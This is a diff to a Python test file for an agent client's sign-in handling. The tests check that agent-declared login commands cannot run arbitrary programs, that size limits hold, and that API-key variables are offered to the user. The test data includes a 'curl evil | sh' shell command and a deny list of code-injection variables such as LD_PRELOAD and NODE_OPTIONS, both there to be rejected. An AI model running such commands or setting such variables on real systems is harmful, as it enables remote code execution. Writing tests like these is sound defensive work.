@@ -6,12 +6,19 @@ The methods below are what real agents declare in `initialize` (Codex 0.16, Clau
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
+import pytest
 from acp.schema import InitializeRequest
+
+from pathlib import Path
 
 from protocol import acp, auth
 from protocol.capabilities import read_initialize
+from protocol.agent_facts import parse_agent_facts
+
+SHIPPED = Path(__file__).parents[2] / "extension" / "catalogue" / "overrides.json"
 
 CODEX = [
     {"id": "chatgpt", "name": "Login with ChatGPT", "description": "Use your ChatGPT login with Codex CLI (requires a paid ChatGPT subscription)"},
@@ -71,11 +78,60 @@ def test_a_terminal_method_runs_the_agents_own_command_with_its_arguments_added(
     }
 
 
-def test_the_older_meta_form_names_its_whole_command() -> None:
+def test_the_older_meta_form_runs_the_agents_own_command_never_the_one_it_names() -> None:
+    # Only what the `_meta` form adds after the agent's own command line is taken; its command never runs.
     legacy = [{"id": "login", "name": "Log in", "_meta": {"terminal-auth": {"command": "/usr/bin/node", "args": ["/x/agent.js", "--login"], "env": {"MODE": "login", "BAD=": "x"}}}}]
-    [method] = auth.methods(legacy, "agent")
+    [method] = auth.methods(legacy, "node", ["/x/agent.js"])
     assert method.kind == auth.TERMINAL
-    assert method.launch == auth.Launch("/usr/bin/node", ("/x/agent.js", "--login"), (("MODE", "login"),))
+    assert method.launch == auth.Launch("node", ("/x/agent.js", "--login"), (("MODE", "login"),))
+    # A shell string, or a command line that is not the agent's: no terminal, the agent signs in itself.
+    shell = [{"id": "sh", "name": "Log in", "_meta": {"terminal-auth": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}}}]
+    [method] = auth.methods(shell, "node", ["/x/agent.js"])
+    assert method.kind == auth.AGENT and method.launch is None
+    assert [m.kind for m in auth.methods(legacy, "npx", ["-y", "agent"])] == [auth.AGENT]
+    assert [m.kind for m in auth.methods(legacy, None)] == [auth.AGENT]  # nothing of ours to run
+
+
+@pytest.mark.parametrize("name", ["PATH", "Path", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV", "PERL5OPT", "GIT_SSH_COMMAND", "npm_config_script_shell", "HOME"])
+def test_a_sign_in_sets_no_variable_that_changes_what_runs(name: str) -> None:
+    entry = {"type": "terminal", "id": "t", "name": "T", "args": ["--login"], "env": {name: "/tmp/evil", "MODE": "login"}}
+    [method] = auth.methods([entry], "agent")
+    assert method.launch is not None and method.launch.env == (("MODE", "login"),)
+    legacy = {"id": "l", "name": "L", "_meta": {"terminal-auth": {"command": "agent", "args": ["--login"], "env": {name: "x"}}}}
+    [method] = auth.methods([legacy], "agent")
+    assert method.launch is not None and method.launch.env == ()
+    # Nor asks the user for one in the key box.
+    assert auth.methods([{"type": "env_var", "id": "k", "name": "K", "vars": [{"name": name}]}], "agent") == ()
+    assert auth.methods(GEMINI, "gemini", keys={"gemini-api-key": [name]})[1].vars == ()
+
+
+def test_what_is_kept_of_a_method_is_bounded_whatever_the_agent_sent() -> None:
+    huge = "x" * 100_000
+    entry = {
+        "type": "terminal", "id": "t", "name": huge, "description": huge, "args": ["--login"],
+        "env": {f"V{i}": "v" for i in range(1000)} | {"BIG": huge},
+        "_meta": {"anything": [huge] * 10},
+    }
+    [method] = auth.methods([entry], "agent")
+    wire = auth.to_wire(method)
+    assert len(json.dumps(wire)) < 2_000 and "anything" not in json.dumps(wire)
+    assert len(wire["terminal"]["env"]) <= auth.MAX_VARS and "BIG" not in wire["terminal"]["env"]
+    assert auth.methods([{**entry, "args": [huge]}], "agent") == ()  # an argument that long: nothing to run
+
+
+def test_an_agent_method_the_facts_map_to_variables_takes_a_key() -> None:
+    # Codex 1.x and Gemini CLI offer their API key sign-ins as agent methods that read a variable.
+    codex = [{"id": "api-key", "name": "API Key", "description": "Use an API key to authenticate", "_meta": {"api-key": {"provider": "openai"}}}, {"id": "chat-gpt", "name": "ChatGPT"}]
+    methods = auth.methods(codex, "codex-acp", keys={"api-key": ("CODEX_API_KEY", "OPENAI_API_KEY")})
+    assert [(m.kind, m.vars) for m in methods] == [(auth.AGENT, ("CODEX_API_KEY", "OPENAI_API_KEY")), (auth.AGENT, ())]
+    wire = auth.to_wire(methods[0])
+    assert wire["askFor"] == ["CODEX_API_KEY"] and wire["vars"] == ["CODEX_API_KEY", "OPENAI_API_KEY"]
+    # Either variable is its key: it is used without asking.
+    assert auth.without_asking(methods, {"OPENAI_API_KEY": "sk-x"}) == methods[0]
+    assert auth.without_asking(methods, {"PATH": "/bin"}) is None
+    # An env_var method's box asks for each variable it needs.
+    [azure] = auth.methods([{"type": "env_var", "id": "azure", "name": "Azure", "vars": [{"name": "AZURE_KEY"}, {"name": "AZURE_URL"}]}], "agent")
+    assert auth.to_wire(azure)["askFor"] == ["AZURE_KEY", "AZURE_URL"]
 
 
 def test_agent_handled_and_unusable_methods() -> None:
@@ -108,7 +164,7 @@ def test_what_the_user_reads_and_is_offered() -> None:
     codex = auth.methods(CODEX, "codex-acp")
     assert [m.id for m in auth.to_offer(codex)] == ["chatgpt"]
     assert auth.sign_in_message("Codex", codex, "Authentication required") == (
-        "Codex needs you to sign in: sign in with Login with ChatGPT; or set CODEX_API_KEY or OPENAI_API_KEY in its env (Authentication required)"
+        "Codex needs you to sign in: sign in with Login with ChatGPT; or enter its CODEX_API_KEY or OPENAI_API_KEY (Authentication required)"
     )
     claude = auth.methods(CLAUDE, "claude-agent-acp")
     assert auth.sign_in_message("Claude Code", claude, "") == "Claude Code needs you to sign in: sign in with Claude Subscription or Anthropic Console"
@@ -137,3 +193,21 @@ def test_initialize_declares_terminal_sign_in_both_ways() -> None:
     assert parsed.client_capabilities is not None and parsed.client_capabilities.auth is not None
     assert parsed.client_capabilities.auth.terminal is True
     assert acp.authenticate_params("openai-api-key") == {"methodId": "openai-api-key"}
+
+
+def test_a_key_the_agent_reads_at_start_without_declaring_it_is_offered_beside_its_own_methods() -> None:
+    # Claude Code's adapter declares only its terminal log-ins, and reads ANTHROPIC_API_KEY at start.
+    facts = parse_agent_facts(json.loads(SHIPPED.read_text()))[0]["@agentclientprotocol/claude-agent-acp"]
+    assert facts.key_method is not None
+    methods = auth.methods(CLAUDE, "claude-agent-acp", keys=facts.keys, key_method=facts.key_method)
+    assert [(m.id, m.kind, m.declared) for m in methods] == [
+        ("claude-ai-login", auth.TERMINAL, True),
+        ("console-login", auth.TERMINAL, True),
+        ("anthropic-api-key", auth.ENV_VAR, False),
+    ]
+    assert auth.to_wire(methods[2])["askFor"] == ["ANTHROPIC_API_KEY"]
+    # The agent knows no such method: nothing is sent for it, the key in its env is enough.
+    assert auth.without_asking(methods, {"ANTHROPIC_API_KEY": "sk-ant-x"}) is None
+    # An agent that declares a method of that id keeps its own.
+    own = [{"type": "env_var", "id": "anthropic-api-key", "name": "Own", "vars": [{"name": "ANTHROPIC_API_KEY"}]}]
+    assert [(m.name, m.declared) for m in auth.methods(own, "x", key_method=facts.key_method)] == [("Own", True)]
